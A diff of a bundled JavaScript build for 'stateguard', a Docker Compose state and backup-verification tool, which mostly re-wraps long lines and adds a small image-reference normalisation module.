+            throw captureError instanceof src_errors/* UserError */.yo
+                ? captureError
+                : new SnapshotError(`snapshot of ${mod.name} failed: ${(0,src_errors/* errorMessage */.gJ)(captureError)}`);
         }
         const sha256 = hash.digest('hex');
         // The archive must be one verify-backup accepts, and the bytes on disk the bytes we hashed.
@@ -13040,7 +14021,9 @@ async function takeSnapshot(args) {
             await fhCheck.close();
         }
         if (check.problems.length || check.sha256 !== sha256 || check.bytesRead !== bytes) {
-            throw new SnapshotError(`the written archive did not pass verification: ${check.problems.map((p) => `[${p.code}] ${p.message}`).join('; ') || `sha256/size differ from what was written`}`);
+            throw new SnapshotError(`the written archive did not pass verification: ` +
+                `${check.problems.map((p) => `[${p.code}] ${p.message}`).join('; ') ||
+                    `sha256/size differ from what was ` + `written`}`);
         }
         await (args.hooks?.publish ?? publishNoClobber)(tempPath, finalPath);
         await writeFileAtomic(`${finalPath}${CHECKSUM_SUFFIX}`, `${sha256}  ${finalName}\n`, args.hooks?.publish);
@@ -13094,7 +14077,8 @@ const snapshotCommand = (0,spec/* defineCommand */.NB)({
             name: 'ready-timeout-seconds',
             kind: 'integer',
             default: '120',
-            description: 'How long to wait for the stopped containers to be running (and healthy, where they have a healthcheck) again; past it: snapshot-failed.',
+            description: 'How long to wait for the stopped containers to be running (and healthy, where they have a healthcheck) ' +
+                'again; past it: snapshot-failed.',
         },
         spec/* JSON_INPUT */.sz,
     ],
@@ -13119,7 +14103,8 @@ const snapshotCommand = (0,spec/* defineCommand */.NB)({
             exitCode: src_errors/* ExitCode */.yU.ok,
             json: result,
             text: `snapshot of ${mod.name} written: ${result.path}\n` +
-                `  ${result.bytes} bytes, ${result.entries} entries, volumes ${result.volumes.join(', ')}, taken ${result.taken_at}\n` +
+                `  ${result.bytes} bytes, ${result.entries} entries, volumes ` +
+                `${result.volumes.join(', ')}, taken ${result.taken_at}\n` +
                 `  sha256 ${result.sha256}`,
             outputs: {
                 'backup-ref': result.path,
@@ -13127,8 +14112,10 @@ const snapshotCommand = (0,spec/* defineCommand */.NB)({
                 bytes: String(result.bytes),
                 'failure-reason': '',
             },
-            summary: `### stateguard snapshot: ${(0,common/* cell */.Hn)(mod.name)}\n\n| archive | volumes | entries | bytes | sha256 |\n|---|---|---|---|---|\n` +
-                `| ${(0,common/* cell */.Hn)(result.path)} | ${(0,common/* cell */.Hn)(result.volumes.join(', '))} | ${result.entries} | ${result.bytes} | \`${result.sha256}\` |`,
+            summary: `### stateguard snapshot: ` +
+                `${(0,common/* cell */.Hn)(mod.name)}\n\n| archive | volumes | entries | bytes | sha256 |\n|---|---|---|---|---|\n` +
+                `| ${(0,common/* cell */.Hn)(result.path)} | ${(0,common/* cell */.Hn)(result.volumes.join(', '))} | ${result.entries} | ${result.bytes} | ` +
+                `\`${result.sha256}\` |`,
         };
     },
 });
@@ -13160,23 +14147,34 @@ const validateCommand = (0,spec/* defineCommand */.NB)({
         const valid = problems.length === 0 && loaded.modules.length > 0;
         const errors = problems.map((p) => ({ file: p.file, line: p.line, column: p.column, message: p.message }));
         if (loaded.modules.length === 0 && problems.length === 0) {
-            errors.push({ file: opts.root, line: 1, column: 1, message: `no module.yaml matches ${JSON.stringify(opts.modules)} under this root` });
+            errors.push({
+                file: opts.root,
+                line: 1,
+                column: 1,
+                message: `no module.yaml matches ${JSON.stringify(opts.modules)} under this root`,
+            });
         }
         const names = loaded.modules.map((m) => m.name);
         const lines = errors.map((e) => (0,model_module/* formatProblem */.Vw)(e));
         if (valid) {
             lines.push(`${names.length} module${names.length === 1 ? '' : 's'} valid:`);
             for (const m of loaded.modules) {
-                lines.push(`  ${m.name.padEnd(20)} ${m.class.padEnd(9)} ${m.expectedState.padEnd(14)} ${m.compose.project}/${m.compose.service}  (${m.file})`);
+                lines.push(`  ${m.name.padEnd(20)} ${m.class.padEnd(9)} ${m.expectedState.padEnd(14)} ` +
+                    `${m.compose.project}/${m.compose.service}  (${m.file})`);
             }
         }
         else {
             lines.push(`${errors.length} problem${errors.length === 1 ? '' : 's'} in module declarations.`);
         }
         const summary = valid
-            ? `### stateguard validate: ${names.length} modules valid\n\n| module | class | expected state | compose |\n|---|---|---|---|\n` +
-                loaded.modules.map((m) => `| ${(0,common/* cell */.Hn)(m.name)} | ${m.class} | ${m.expectedState} | ${(0,common/* cell */.Hn)(`${m.compose.project}/${m.compose.service}`)} |`).join('\n')
-            : `### stateguard validate: ${errors.length} problems\n\n` + errors.map((e) => `- ${(0,common/* code */.aY)((0,model_module/* formatProblem */.Vw)(e))}`).join('\n');
+            ? `### stateguard validate: ` +
+                `${names.length} modules valid\n\n| module | class | expected state | compose |\n|---|---|---|---|\n` +
+                loaded.modules
+                    .map((m) => `| ${(0,common/* cell */.Hn)(m.name)} | ${m.class} | ${m.expectedState} | ` +
+                    `${(0,common/* cell */.Hn)(`${m.compose.project}/${m.compose.service}`)} |`)
+                    .join('\n')
+            : `### stateguard validate: ${errors.length} problems\n\n` +
+                errors.map((e) => `- ${(0,common/* code */.aY)((0,model_module/* formatProblem */.Vw)(e))}`).join('\n');
         return {
             exitCode: valid ? src_errors/* ExitCode */.yU.ok : src_errors/* ExitCode */.yU.no,
             json: { valid, modules: names, errors },
@@ -13188,7 +14186,14 @@ const validateCommand = (0,spec/* defineCommand */.NB)({
                 'failure-reason': valid ? '' : 'invalid-modules',
             },
             summary,
-            annotations: errors.map((e) => ({ level: 'error', message: e.message, file: e.file, line: e.line, column: e.column, title: 'stateguard validate' })),
+            annotations: errors.map((e) => ({
+                level: 'error',
+                message: e.message,
+                file: e.file,
+                line: e.line,
+                column: e.column,
+                title: 'stateguard validate',
+            })),
             failureReason: valid ? undefined : 'invalid-modules',
         };
     },
@@ -13212,7 +14217,8 @@ function renderBackupReport(r) {
     const lines = [];
     if (r.verified) {
         lines.push(`backup verified: ${r.path}`);
-        lines.push(`  module ${r.matched_module}, taken ${r.created_at}, ${r.entries} entries, ${r.bytes} bytes (${r.uncompressed_bytes} uncompressed)`);
+        lines.push(`  module ${r.matched_module}, taken ${r.created_at}, ${r.entries} entries, ${r.bytes} bytes ` +
+            `(${r.uncompressed_bytes} uncompressed)`);
         lines.push(`  sha256 ${r.sha256}`);
         lines.push(`  ${checksumLine(r)}`);
     }
@@ -13222,16 +14228,21 @@ function renderBackupReport(r) {
             lines.push(`  [${p.code}] ${p.message}${p.entry !== undefined ? ` (entry ${JSON.stringify(p.entry)})` : ''}`);
     }
     const summary = r.verified
-        ? `### stateguard verify-backup: verified\n\n| file | module | taken | entries | bytes | sha256 |\n|---|---|---|---|---|---|\n` +
-            `| ${(0,common/* cell */.Hn)(r.path)} | ${(0,common/* cell */.Hn)(r.matched_module ?? '')} | ${r.created_at} | ${r.entries} | ${r.bytes} | \`${r.sha256}\` |\n\n${checksumLine(r)}`
+        ? `### stateguard verify-backup: verified\n\n| file | module | taken | entries | bytes | sha256 ` +
+            `|\n|---|---|---|---|---|---|\n` +
+            `| ${(0,common/* cell */.Hn)(r.path)} | ${(0,common/* cell */.Hn)(r.matched_module ?? '')} | ${r.created_at} | ${r.entries} | ${r.bytes} | ` +
+            `\`${r.sha256}\` |\n\n${checksumLine(r)}`
         : `### stateguard verify-backup: rejected\n\n${(0,common/* code */.aY)(r.path)}\n\n| code | problem | entry |\n|---|---|---|\n` +
-            r.problems.map((p) => `| \`${p.code}\` | ${(0,common/* cell */.Hn)(p.message)} | ${p.entry !== undefined ? (0,common/* code */.aY)(p.entry) : ''} |`).join('\n');
+            r.problems
+                .map((p) => `| \`${p.code}\` | ${(0,common/* cell */.Hn)(p.message)} | ${p.entry !== undefined ? (0,common/* code */.aY)(p.entry) : ''} |`)
+                .join('\n');
     return { text: lines.join('\n'), summary };
 }
 const verifyBackupCommand = (0,spec/* defineCommand */.NB)({
     name: 'verify-backup',
     title: 'stateguard verify-backup',
-    description: 'Verify a backup archive as untrusted input: location, name, age, checksum, and every entry, without extracting it.',
+    description: 'Verify a backup archive as untrusted input: location, name, age, checksum, and every entry, without extracting ' +
+        'it.',
     inputs: [
         spec/* ROOT_INPUT */.kQ,
         spec/* MODULES_INPUT */.zD,
@@ -13248,7 +14259,12 @@ const verifyBackupCommand = (0,spec/* defineCommand */.NB)({
             default: '64G',
             description: 'Stop and reject past this many uncompressed bytes (K/M/G suffixes).',
         },
-        { name: 'max-entries', kind: 'integer', default: '1000000', description: 'Stop and reject past this many archive entries.' },
+        {
+            name: 'max-entries',
+            kind: 'integer',
+            default: '1000000',
+            description: 'Stop and reject past this many archive entries.',
+        },
         spec/* JSON_INPUT */.sz,
     ],
     outputs: [
@@ -13272,7 +14288,9 @@ const verifyBackupCommand = (0,spec/* defineCommand */.NB)({
             maxEntries: opts.maxEntries,
         });
         if (report.verified && report.checksum === 'absent') {
-            ctx.log.warn(`verify-backup: ${report.path} has no .sha256 beside it, so its integrity was not checked against anything independent of the file (write one with sha256sum, or take backups with stateguard snapshot)`);
+            ctx.log.warn(`verify-backup: ` +
+                `${report.path} has no .sha256 beside it, so its integrity was not checked against anything independent of ` +
+                `the file (write one with sha256sum, or take backups with stateguard snapshot)`);
         }
         const { text, summary } = renderBackupReport(report);
         const reason = report.verified ? undefined : 'backup-rejected';
@@ -13290,7 +14308,13 @@ const verifyBackupCommand = (0,spec/* defineCommand */.NB)({
             summary,
             annotations: report.verified
                 ? []
-                : [{ level: 'error', title: 'stateguard verify-backup', message: `backup rejected: ${report.problems.map((p) => `[${p.code}] ${p.message}`).join('; ')}` }],
+                : [
+                    {
+                        level: 'error',
+                        title: 'stateguard verify-backup',
+                        message: `backup rejected: ${report.problems.map((p) => `[${p.code}] ${p.message}`).join('; ')}`,
+                    },
+                ],
             failureReason: reason,
         };
     },
@@ -13317,7 +14341,9 @@ const COMMANDS = {
     validate: validateCommand,
 };
 function getCommand(name) {
-    return Object.hasOwn(COMMANDS, name) ? COMMANDS[name] : undefined;
+    return Object.hasOwn(COMMANDS, name)
+        ? COMMANDS[name]
+        : undefined;
 }
 
 
@@ -13357,7 +14383,9 @@ function parseSize(raw, label) {
     const m = /^(\d+)\s*([KMGT]?)(?:i?B)?$/i.exec(raw.trim());
     const unit = m ? SIZE_UNITS[(m[2] ?? '').toUpperCase()] : undefined;
     if (!m || unit === undefined) {
-        throw new _errors_js__WEBPACK_IMPORTED_MODULE_0__/* .UserError */ .yo(`${label} must be a size like 512, 64K, 100M or 2G, got ${JSON.stringify(raw)}.`, { input: label });
+        throw new _errors_js__WEBPACK_IMPORTED_MODULE_0__/* .UserError */ .yo(`${label} must be a size like 512, 64K, 100M or 2G, got ${JSON.stringify(raw)}.`, {
+            input: label,
+        });
     }
     const value = Number(m[1]) * unit;
     if (!Number.isSafeInteger(value) || value <= 0) {
@@ -13397,7 +14425,10 @@ function parseInputs(defs, raw, names) {
         }
         if (def.kind === 'list') {
             // Action inputs carry lists one per line; CLI repeats the flag. Blank lines are ignored.
-            const items = values.flatMap((v) => v.split(/\r?\n/)).map((v) => v.trim()).filter((v) => v !== '');
+            const items = values
+                .flatMap((v) => v.split(/\r?\n/))
+                .map((v) => v.trim())
+                .filter((v) => v !== '');
             const fallback = items.length === 0 && def.default ? def.default.split(/\r?\n/).filter(Boolean) : [];
             const list = items.length ? items : fallback;
             if (def.required && list.length === 0) {
@@ -13432,7 +14463,9 @@ function parseInputs(defs, raw, names) {
                 break;
             case 'choice':
                 if (!def.choices?.includes(value)) {
-                    throw new _errors_js__WEBPACK_IMPORTED_MODULE_0__/* .UserError */ .yo(`${label} must be one of ${def.choices?.join(', ')}, got ${show(def, value)}.`, { input: def.name });
+                    throw new _errors_js__WEBPACK_IMPORTED_MODULE_0__/* .UserError */ .yo(`${label} must be one of ${def.choices?.join(', ')}, got ${show(def, value)}.`, {
+                        input: def.name,
+                    });
                 }
                 out[(0,_spec_js__WEBPACK_IMPORTED_MODULE_1__/* .camel */ .nJ)(def.name)] = value;
                 break;
@@ -13524,6 +14557,35 @@ function checkComposeFlavorEnv(env) {
 
 /***/ }),
 
+/***/ 5158:
+/***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
+
+/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
+/* harmony export */   Q: () => (/* binding */ normalizeImageRef)
+/* harmony export */ });
+/** Image references compared as the engine lists them. Pure: no process is spawned here. */
+/**
+ * Normalise an image reference the way the engine lists RepoTags: implicit `:latest`, and the
+ * Docker Hub prefixes dropped (`docker.io/library/x` lists as `x`).
+ */
+function normalizeImageRef(ref) {
+    let r = ref.trim();
+    if (r.includes('@'))
+        return r; // digest refs compare as written
+    r = r
+        .replace(/^docker\.io\/library\//, '')
+        .replace(/^docker\.io\//, '')
+        .replace(/^index\.docker\.io\//, '');
+    const lastSlash = r.lastIndexOf('/');
+    const tail = r.slice(lastSlash + 1);
+    if (!tail.includes(':'))
+        r += ':latest';
+    return r;
+}
+
+
+/***/ }),
+
 /***/ 3916:
 /***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
 
@@ -13564,7 +14626,7 @@ const FAILURE_REASONS = {
     'dependency-disturbed': 'A depends_on_healthy module was stopped, unhealthy or recreated during apply.',
     'image-not-present': 'The declared image is not on the engine; apply never pulls or builds.',
     'docker-unavailable': 'The Docker engine could not be reached.',
-    'compose-error': 'compose could not render or run the module\'s compose file.',
+    'compose-error': "compose could not render or run the module's compose file.",
     'snapshot-failed': 'The snapshot could not be taken or the containers did not come back.',
     'e2e-failed': 'The e2e command exited non-zero.',
     'e2e-skipped': 'The e2e gate was skipped in required mode (switch off or variables missing).',
@@ -13723,7 +14785,8 @@ function schemaProblem(src, err) {
     const p = err.params;
     switch (err.keyword) {
         case 'additionalProperties':
-            return src.problem([...segs, String(p.additionalProperty)], `unknown key '${String(p.additionalProperty)}' in ${where} (typo? allowed keys are listed in schema/module.schema.md)`, 'key');
+            return src.problem([...segs, String(p.additionalProperty)], `unknown key ` +
+                `'${String(p.additionalProperty)}' in ${where} (typo? allowed keys are listed in schema/module.schema.md)`, 'key');
         case 'required':
             return src.problem(segs, `${where} is missing required key '${String(p.missingProperty)}'`, 'key');
         case 'enum':
@@ -13740,7 +14803,8 @@ function schemaProblem(src, err) {
 }
 function describePattern(pattern) {
     if (pattern.startsWith('^[a-z0-9]([a-z0-9-]')) {
-        return 'must be a lowercase DNS label: a-z, 0-9 and hyphens, starting and ending with a letter or digit, at most 63 characters';
+        return ('must be a lowercase DNS label: a-z, 0-9 and hyphens, starting and ending with a letter or digit, at most ' +
+            '63 characters');
     }
     if (pattern === '^/')
         return 'must be an absolute path (starting with /)';
@@ -13880,7 +14944,9 @@ function namedVolumeMounts(service) {
         }
         else if (v && typeof v === 'object') {
             const o = v;
-            if ((o.type === undefined || o.type === 'volume') && typeof o.source === 'string' && typeof o.target === 'string') {
+            if ((o.type === undefined || o.type === 'volume') &&
+                typeof o.source === 'string' &&
+                typeof o.target === 'string') {
                 out.set(o.target.replace(/\/+$/, '') || '/', o.source);
             }
         }
@@ -13904,7 +14970,8 @@ function crossCheck(loaded, displayBase) {
         if ((m.class === 'stateful' || m.class === 'sidecar') && !m.backup) {
             problems.push(src.problem(['spec', 'class'], m.class === 'sidecar'
                 ? `a sidecar module must declare spec.backup (ref_modules naming its parent, and max_age_hours)`
-                : `a stateful module must declare spec.backup (max_age_hours; ref_modules only for other modules whose backups also cover it)`));
+                : `a stateful module must declare spec.backup (max_age_hours; ref_modules only for other modules whose ` +
+                    `backups also cover it)`));
         }
         // A sidecar is covered by its parent's backups, so it must name that parent; its own
         // backups alone never count for it. A stateful module's own backups always count (the
@@ -13924,7 +14991,9 @@ function crossCheck(loaded, displayBase) {
             const target = byName.get(ref);
             if (!target) {
                 const broken = brokenRef(ref);
-                problems.push(src.problem(['spec', 'backup', 'ref_modules', i], broken ? `backup.ref_modules names module '${ref}', ${broken}` : `backup.ref_modules names unknown module '${ref}'`));
+                problems.push(src.problem(['spec', 'backup', 'ref_modules', i], broken
+                    ? `backup.ref_modules names module '${ref}', ${broken}`
+                    : `backup.ref_modules names unknown module '${ref}'`));
             }
             else if (target.class !== 'stateful') {
                 problems.push(src.problem(['spec', 'backup', 'ref_modules', i], `backup.ref_modules names '${ref}', which is ${target.class}, not stateful`));
@@ -13936,7 +15005,9 @@ function crossCheck(loaded, displayBase) {
             }
             else if (!byName.has(dep)) {
                 const broken = brokenRef(dep);
-                problems.push(src.problem(['spec', 'depends_on_healthy', i], broken ? `depends_on_healthy names module '${dep}', ${broken}` : `depends_on_healthy names unknown module '${dep}'`));
+                problems.push(src.problem(['spec', 'depends_on_healthy', i], broken
+                    ? `depends_on_healthy names module '${dep}', ${broken}`
+                    : `depends_on_healthy names unknown module '${dep}'`));
             }
         });
         let compose = composeCache.get(m.compose.path);
@@ -13945,7 +15016,9 @@ function crossCheck(loaded, displayBase) {
             composeCache.set(m.compose.path, compose);
         }
         if (!compose.ok) {
-            problems.push(src.problem(['spec', 'compose', 'file'], `compose file ${m.compose.file} (${(0,_module_js__WEBPACK_IMPORTED_MODULE_2__/* .displayPath */ .Gt)(m.compose.path, displayBase)}) cannot be used: ${compose.problems[0].message}`));
+            problems.push(src.problem(['spec', 'compose', 'file'], `compose file ` +
+                `${m.compose.file} (${(0,_module_js__WEBPACK_IMPORTED_MODULE_2__/* .displayPath */ .Gt)(m.compose.path, displayBase)}) cannot be used: ` +
+                `${compose.problems[0].message}`));
             // A compose file that exists but is broken: also report its own problems at their own
             // positions, once per file (a missing file has nothing more to point at).
             const own = compose.problems;
@@ -13962,12 +15035,16 @@ function crossCheck(loaded, displayBase) {
         if (m.expectedState === 'exited-success') {
             const replicas = oneShotReplicaProblem(service);
             if (replicas) {
-                problems.push(src.problem(['spec', 'runtime', 'expected_state'], `one-shot service '${m.compose.service}' ${replicas} in ${m.compose.file}; a one-shot runs as exactly one container ` +
+                problems.push(src.problem(['spec', 'runtime', 'expected_state'], `one-shot service ` +
+                    `'${m.compose.service}' ${replicas} in ${m.compose.file}; a one-shot runs as exactly one container ` +
                     `(two runs at once against the same data are never safe): remove it or set it to 1`));
             }
             const r = service.restart;
             if (!(r === undefined || r === null || r === 'no' || r === false)) {
-                problems.push(src.problem(['spec', 'runtime', 'expected_state'], `one-shot service '${m.compose.service}' has restart: ${JSON.stringify(r)} in ${m.compose.file}; a one-shot must have restart: "no" (or none), or it never stays exited`));
+                problems.push(src.problem(['spec', 'runtime', 'expected_state'], `one-shot service ` +
+                    `'${m.compose.service}' has restart: ` +
+                    `${JSON.stringify(r)} in ${m.compose.file}; a one-shot must have restart: "no" (or none), or it ` +
+                    `never stays exited`));
             }
         }
         const mounts = namedVolumeMounts(service);
@@ -13977,7 +15054,9 @@ function crossCheck(loaded, displayBase) {
             if (mounted !== v.volume) {
                 problems.push(src.problem(['spec', 'data', 'volumes', i], mounted
                     ? `data volume '${v.volume}' at ${v.path}: the compose service mounts volume '${mounted}' there instead`
-                    : `data volume '${v.volume}' at ${v.path} is not mounted by service '${m.compose.service}' in ${m.compose.file}: its data would not survive a recreate`));
+                    : `data volume ` +
+                        `'${v.volume}' at ${v.path} is not mounted by service ` +
+                        `'${m.compose.service}' in ${m.compose.file}: its data would not survive a recreate`));
             }
         });
     }
@@ -14141,8 +15220,14 @@ function parseYamlText(bytes, displayName) {
             ok: false,
             problems: doc.errors.map((e) => {
                 const p = posOf(e.pos[0]);
-                const msg = e.code === 'DUPLICATE_KEY' ? 'duplicate key: each key may appear once in a mapping' : firstSentence(e.message);
-                return { file: displayName, ...p, message: `YAML ${e.code === 'DUPLICATE_KEY' ? 'error' : 'syntax error'}: ${msg}` };
+                const msg = e.code === 'DUPLICATE_KEY'
+                    ? 'duplicate key: each key may appear once in a mapping'
+                    : firstSentence(e.message);
+                return {
+                    file: displayName,
+                    ...p,
+                    message: `YAML ${e.code === 'DUPLICATE_KEY' ? 'error' : 'syntax error'}: ${msg}`,
+                };
             }),
         };
     }
@@ -14175,7 +15260,8 @@ function parseYamlText(bytes, displayName) {
 const MAX_DEPTH = 64;
 const STACK_OVERFLOW = /maximum call stack/i;
 function tooDeep() {
-    return `YAML is nested too deeply (more than ${MAX_DEPTH} levels of mappings or lists); a module.yaml needs only a few`;
+    return (`YAML is nested too deeply (more than ` +
+        `${MAX_DEPTH} levels of mappings or lists); a module.yaml needs only a few`);
 }
 /** Deepest nesting of collections under a node, walked without recursion (the input is untrusted). */
 function nestingDepth(root) {
@@ -14199,7 +15285,10 @@ function nestingDepth(root) {
     return max;
 }
 function firstSentence(message) {
-    return message.split('\n')[0].replace(/ at line \d+, column \d+:?$/, '').trim();
+    return message
+        .split('\n')[0]
+        .replace(/ at line \d+, column \d+:?$/, '')
+        .trim();
 }
 /** Where the first invalid UTF-8 sequence starts (column counts characters, 1-based). */
 function firstInvalidUtf8(b) {
@@ -14248,9 +15337,11 @@ function firstInvalidUtf8(b) {
  */
 const MASK = '***';
 /** Names of environment variables whose values are treated as secrets. */
-const SECRET_NAME = /PASS|PWD|SECRET|TOKEN|(^|_)KEY($|_)|API_?KEY|PRIVATE|CREDENTIAL|AUTH|CERT|DSN|CONN(ECTION)?_?STRING|ACCESS_?KEY|SALT|SESSION|COOKIE|SIGNATURE/i;
+const SECRET_NAME = /PASS|PWD|SECRET|TOKEN|(^|_)KEY($|_)|API_?KEY|PRIVATE|CREDENTIAL|AUTH|CERT|DSN|CONN(ECTION)?_?STRING|ACCESS_?KEY/i;
+/** More parts of names that carry credentials (split from SECRET_NAME only to keep lines short). */
+const SECRET_NAME_MORE = /SALT|SESSION|COOKIE|SIGNATURE/i;
 function looksSecret(name) {
-    return SECRET_NAME.test(name);
+    return SECRET_NAME.test(name) || SECRET_NAME_MORE.test(name);
 }
 /**
  * Values that a secret-looking name may hold but that are not secrets and would, if masked,
@@ -14376,7 +15467,10 @@ function errorResult(spec, err) {
         json,
         text: `stateguard ${name}: ${message}`,
         outputs,
-        summary: `### stateguard ${name}: could not complete\n\n${message.split('\n').map((l) => `> ${(0,_commands_common_js__WEBPACK_IMPORTED_MODULE_1__/* .cell */ .Hn)(l)}`).join('\n')}\n\nfailure-reason: \`${reason}\``,
+        summary: `### stateguard ${name}: could not complete\n\n${message
+            .split('\n')
+            .map((l) => `> ${(0,_commands_common_js__WEBPACK_IMPORTED_MODULE_1__/* .cell */ .Hn)(l)}`)
+            .join('\n')}\n\nfailure-reason: \`${reason}\``,
         failureReason: reason,
         annotations: [],
     };
@@ -14396,7 +15490,7 @@ function errorResult(spec, err) {
 /* harmony import */ var node_crypto__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__nccwpck_require__.n(node_crypto__WEBPACK_IMPORTED_MODULE_0__);
 /* harmony import */ var yaml__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(8815);
 /* harmony import */ var _errors_js__WEBPACK_IMPORTED_MODULE_2__ = __nccwpck_require__(3916);
-/* harmony import */ var _image_ref_js__WEBPACK_IMPORTED_MODULE_4__ = __nccwpck_require__(8533);
+/* harmony import */ var _drift_image_ref_js__WEBPACK_IMPORTED_MODULE_4__ = __nccwpck_require__(5158);
 /* harmony import */ var _process_js__WEBPACK_IMPORTED_MODULE_3__ = __nccwpck_require__(21);
 /**
  * Runtime implemented with the `docker` CLI and the compose CLI, so DOCKER_HOST, contexts, ssh and
@@ -14417,7 +15511,11 @@ const LABEL = {
     configHash: 'com.docker.compose.config-hash',
 };
 function firstLine(text) {
-    return text.trim().split('\n').find((l) => l.trim() !== '')?.trim() ?? '';
+    return (text
+        .trim()
+        .split('\n')
+        .find((l) => l.trim() !== '')
+        ?.trim() ?? '');
 }
 /** End a quoted message with exactly one sentence mark. */
 function sentence(text) {
@@ -14548,7 +15646,7 @@ function runRecordLabels(r) {
 }
 /** A record from volume labels, or null when any field is missing (a partial record proves nothing). */
 function parseRunRecord(labels) {
-    const get = (k) => (typeof labels[k] === 'string' && labels[k] !== '' ? labels[k] : undefined);
+    const get = (k) => typeof labels[k] === 'string' && labels[k] !== '' ? labels[k] : undefined;
     const rec = {
         project: get(RUN_RECORD_LABEL.project),
         service: get(RUN_RECORD_LABEL.service),
@@ -14568,7 +15666,10 @@ function parseRunRecord(labels) {
 class DockerCli {
     run;
     env;
-    /** an explicit env (not process.env) is passed to every child, so DOCKER_HOST/DOCKER_CONTEXT given there are honoured */
+    /**
+     * an explicit env (not process.env) is passed to every child, so DOCKER_HOST/DOCKER_CONTEXT given
+     * there are honoured
+     */
     childEnv;
     flavor;
     v2;
@@ -14595,14 +15696,22 @@ class DockerCli {
         const ps = await this.docker(['ps', '-q', '--no-trunc', '--filter', `volume=${volume}`]);
         if (ps.code !== 0)
             throw new _errors_js__WEBPACK_IMPORTED_MODULE_2__/* .EnvironmentError */ .eG(`docker ps --filter volume=${volume} failed: ${firstLine(ps.stderr)}`);
-        const ids = ps.stdout.split('\n').map((x) => x.trim()).filter(Boolean);
+        const ids = ps.stdout
+            .split('\n')
+            .map((x) => x.trim())
+            .filter(Boolean);
         return (await this.inspectContainers(ids)).filter((c) => c.mounts.some((m) => m.name === volume));
     }
     async localImageIds(limit) {
         const r = await this.docker(['image', 'ls', '-q', '--no-trunc']);
         if (r.code !== 0)
             return [];
-        return [...new Set(r.stdout.split('\n').map((x) => x.trim()).filter(Boolean))].slice(0, limit);
+        return [
+            ...new Set(r.stdout
+                .split('\n')
+                .map((x) => x.trim())
+                .filter(Boolean)),
+        ].slice(0, limit);
     }
     async removeFilesInContainer(containerId, files) {
         // Root inside the container: files written by `docker cp` are root's, in directories the
@@ -14647,7 +15756,8 @@ class DockerCli {
             if (flavor === 'v2') {
                 const version = await this.v2Version();
                 if (version === null) {
-                    throw new _errors_js__WEBPACK_IMPORTED_MODULE_2__/* .EnvironmentError */ .eG('STATEGUARD_COMPOSE=v2, but `docker compose version` does not answer: install the compose v2 plugin, or set STATEGUARD_COMPOSE=v1 or auto.', 'compose-error');
+                    throw new _errors_js__WEBPACK_IMPORTED_MODULE_2__/* .EnvironmentError */ .eG('STATEGUARD_COMPOSE=v2, but `docker compose version` does not answer: install the compose v2 plugin, or ' +
+                        'set STATEGUARD_COMPOSE=v1 or auto.', 'compose-error');
                 }
                 return { flavor, version };
             }
@@ -14682,7 +15792,10 @@ class DockerCli {
         const ps = await this.docker(['ps', '-a', '-q', '--no-trunc', '--filter', `label=${LABEL.project}=${project}`]);
         if (ps.code !== 0)
             throw new _errors_js__WEBPACK_IMPORTED_MODULE_2__/* .EnvironmentError */ .eG(`docker ps failed: ${firstLine(ps.stderr)}`);
-        const ids = ps.stdout.split('\n').map((s) => s.trim()).filter(Boolean);
+        const ids = ps.stdout
+            .split('\n')
+            .map((s) => s.trim())
+            .filter(Boolean);
         const all = await this.inspectContainers(ids);
         // The label filter already matched; re-check so a parsing surprise never mixes projects.
         return all.filter((c) => c.project === project);
@@ -14728,10 +15841,10 @@ class DockerCli {
         }
         const images = JSON.parse(text || '[]');
         for (const ref of unique) {
-            const norm = (0,_image_ref_js__WEBPACK_IMPORTED_MODULE_4__/* .normalizeImageRef */ .Q)(ref);
+            const norm = (0,_drift_image_ref_js__WEBPACK_IMPORTED_MODULE_4__/* .normalizeImageRef */ .Q)(ref);
             const hit = images.find((img) => img.Id === ref ||
-                (img.RepoTags ?? []).some((t) => (0,_image_ref_js__WEBPACK_IMPORTED_MODULE_4__/* .normalizeImageRef */ .Q)(t) === norm) ||
-                (img.RepoDigests ?? []).some((d) => d === ref || (0,_image_ref_js__WEBPACK_IMPORTED_MODULE_4__/* .normalizeImageRef */ .Q)(d) === norm));
+                (img.RepoTags ?? []).some((t) => (0,_drift_image_ref_js__WEBPACK_IMPORTED_MODULE_4__/* .normalizeImageRef */ .Q)(t) === norm) ||
+                (img.RepoDigests ?? []).some((d) => d === ref || (0,_drift_image_ref_js__WEBPACK_IMPORTED_MODULE_4__/* .normalizeImageRef */ .Q)(d) === norm));
             out[ref] = hit ? hit.Id : null;
         }
         return out;
@@ -14795,7 +15908,16 @@ class DockerCli {
         // An explicit command: an image with neither CMD nor ENTRYPOINT (one made by `docker import`)
         // cannot be created without one ("No command specified"). The container is never started, so
         // the command need not exist in the image.
-        const r = await this.docker(['create', '--name', name, '--network', 'none', ...labelArgs, image, 'stateguard-never-started']);
+        const r = await this.docker([
+            'create',
+            '--name',
+            name,
+            '--network',
+            'none',
+            ...labelArgs,
+            image,
+            'stateguard-never-started',
+        ]);
         if (r.code === 0)
             return true;
         if (/already in use|conflict/i.test(r.stderr))
@@ -14806,7 +15928,10 @@ class DockerCli {
         const ls = await this.docker(['volume', 'ls', '-q', '--filter', `label=${RUN_RECORD_LABEL.project}=${project}`]);
         if (ls.code !== 0)
             throw new _errors_js__WEBPACK_IMPORTED_MODULE_2__/* .EnvironmentError */ .eG(`docker volume ls failed: ${firstLine(ls.stderr)}`);
-        const names = ls.stdout.split('\n').map((x) => x.trim()).filter(Boolean);
+        const names = ls.stdout
+            .split('\n')
+            .map((x) => x.trim())
+            .filter(Boolean);
         if (names.length === 0)
             return [];
         const r = await this.docker(['volume', 'inspect', ...names]);
@@ -14829,12 +15954,20 @@ class DockerCli {
         const key = runRecordKey(record.project, record.service);
         const name = `stateguard-run-${key}-${Date.parse(record.recorded_at) || Date.now()}`;
         const labels = runRecordLabels(record);
-        const r = await this.docker(['volume', 'create', ...Object.entries(labels).flatMap(([k, v]) => ['--label', `${k}=${v}`]), name]);
+        const r = await this.docker([
+            'volume',
+            'create',
+            ...Object.entries(labels).flatMap(([k, v]) => ['--label', `${k}=${v}`]),
+            name,
+        ]);
         if (r.code !== 0)
             throw new _errors_js__WEBPACK_IMPORTED_MODULE_2__/* .EnvironmentError */ .eG(`docker volume create ${name} failed: ${firstLine(r.stderr)}`);
         // Older records of this service are superseded; removing them is tidying, never required.
